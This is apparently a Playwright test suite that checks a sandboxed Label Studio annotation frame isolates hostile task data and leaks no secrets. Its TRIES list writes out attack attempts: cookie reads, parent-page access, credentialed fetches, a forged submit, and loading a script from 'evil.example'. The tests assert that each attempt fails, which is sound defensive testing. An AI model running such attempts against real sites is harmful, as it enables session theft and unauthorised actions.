"""Task data is untrusted: whatever it holds, it reaches nothing of ours."""

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from annotation.models import Task
from tests.annotation.label_studio.bench_window import Bench, editor, take_a_task
from tests.annotation.label_studio.hostile import SHOWN
from tests.browser import Window, served
from tests.conftest import Live

pytestmark = [
    pytest.mark.live_label_studio,
    pytest.mark.browser,
    pytest.mark.xdist_group("label_studio"),
]

# What code in the frame may try, if hostile data ever came to run there; each name must fail.
TRIES = {
    "read our page": "parent.document.title",
    "read our page by its frames": "top.frames[0].parent.document.body.innerHTML",
    "read cookies": "document.cookie",
    "read our storage": "window.open === null || parent.localStorage.length",
    "ask our pages": "await (await fetch(PAGE + '/work', {credentials: 'include'})).text()",
    "ask our interface": "await (await fetch(PAGE + '/api/v1/projects', {mode: 'no-cors'})).type",
    "hand in by itself": "await (await fetch(PAGE + WORK + '/submit', {method: 'POST',"
    " credentials: 'include', headers: {'Content-Type': 'text/plain'}, body: '{}'})).status",
    "load a foreign script": "await new Promise((yes, no) => { const s ="
    " document.createElement('script'); s.src = 'https://evil.example/x.js';"
    " s.onload = yes; s.onerror = no; document.head.append(s) })",
}


@pytest.fixture
def home(bench: Live) -> Iterator[str]:
    with served(bench.app) as home:
        yield home


def opened(work: Bench, window: Window) -> list[dict[str, Any]]:
    """Open the bench and return the messages that the page gets."""
    window.picky = False
    window.page.add_init_script(
        "if (self === top) { self.heard = [];"
        " addEventListener('message', (event) => self.heard.push(event.data?.doyen)) }"
    )
    window.page.goto(window.home + work.path)
    frame = editor(window.page)
    frame.wait_for_timeout(500)
    assert frame.evaluate("window.pwned") is None
    return window.page.evaluate("heard")


@pytest.mark.parametrize("name", SHOWN)
def test_hostile_data_is_shown_and_does_nothing(bench, chromium: Browser, home, name):
    config, data = SHOWN[name]
    work = take_a_task(bench, data=data | {"secret": "of the owner"}, label_config=config)
    left: list[str] = []

    with work.window(chromium, home) as window:
        # What the policy stops is a request that never leaves the browser; nor does a part of a
        # drawing at another origin.
        window.page.on("requestfinished", lambda request: left.append(request.url))
        window.page.on(
            "requestfailed",
            lambda request: (
                None if request.failure in ("csp", "origin") else left.append(request.url)
            ),
        )
        heard = opened(work, window)
        frame = editor(window.page)
        assert frame.evaluate("({}).polluted") is None
        # The address of a link in the data leads nowhere either, nor does a form of it.
        for thing in [*frame.get_by_role("link").all()[:3], *frame.get_by_text("Go").all()[:2]]:
            thing.evaluate("node => node.click()")
        window.page.keyboard.press("1")
        window.page.wait_for_timeout(300)

        assert "pwned" not in window.page.evaluate("heard")
        assert frame.evaluate("window.pwned") is None
        assert "pwned" not in window.page.title()
        assert window.page.url == home + work.path
        window.page.get_by_role("button", name=re.compile("Hand in")).click()
        expect(window.page.locator("[data-editor]")).to_have_count(0)
        window.faults.clear()  # what the policy refused is written into the console

    assert "mounted" in heard
    assert not [url for url in left if not url.startswith((home, "data:", "blob:", "about:"))]


def test_code_in_the_frame_reaches_nothing_of_ours(bench, chromium: Browser, home):
    work = take_a_task(bench)
    with work.window(chromium, home) as window:
        opened(work, window)
        frame = editor(window.page)
        for name, code in TRIES.items():
            code = code.replace("PAGE", repr(home)).replace("WORK", repr(work.path))
            came = frame.evaluate(
                f"(async () => {{ try {{ return ['reached', String({code})] }}"
                " catch (error) { return ['refused', error?.name ?? 'event'] } })()"
            )
            assert came[0] == "refused", (name, came)

        frame.evaluate("setTimeout('window.ran = 1')")
        frame.wait_for_timeout(200)
        assert frame.evaluate("window.ran") is None
        assert frame.evaluate("self.origin") == "null"
        assert frame.evaluate("window.open('about:blank')") is None
        with pytest.raises(Exception, match=r"top|sandbox|SecurityError|navigat"):
            frame.evaluate("top.location = 'https://evil.example/'")
        assert window.page.url == home + work.path
        window.faults.clear()


def test_the_frame_gets_only_what_the_config_shows(bench, chromium: Browser, home):
    work = take_a_task(bench, data={"text": "A clause.", "secret": "of the owner"})
    with bench.transaction() as session:
        session.get_one(Task, work.task_id).gold = [{"from_name": "clause", "value": "the key"}]
    with work.window(chromium, home) as window:
        given: list[str] = []
        window.page.on(
            "response",
            lambda answer: given.append(answer.text()) if "task.json" in answer.url else None,
        )
        opened(work, window)

    assert len(given) == 1
    assert "A clause." in given[0]
    assert "of the owner" not in given[0]
    assert "the key" not in given[0]


def test_a_stranger_to_the_page_is_not_listened_to(bench, chromium: Browser, home):
    work = take_a_task(bench)
    with work.window(chromium, home) as window:
        opened(work, window)
        window.page.evaluate(
            "postMessage({doyen: 'submit', result: []}, '*');postMessage({doyen: 'skip'}, '*')"
        )
        window.page.wait_for_timeout(500)

        expect(window.page.get_by_role("dialog")).to_have_count(0)
        expect(window.page.locator("[data-editor]")).to_be_visible()
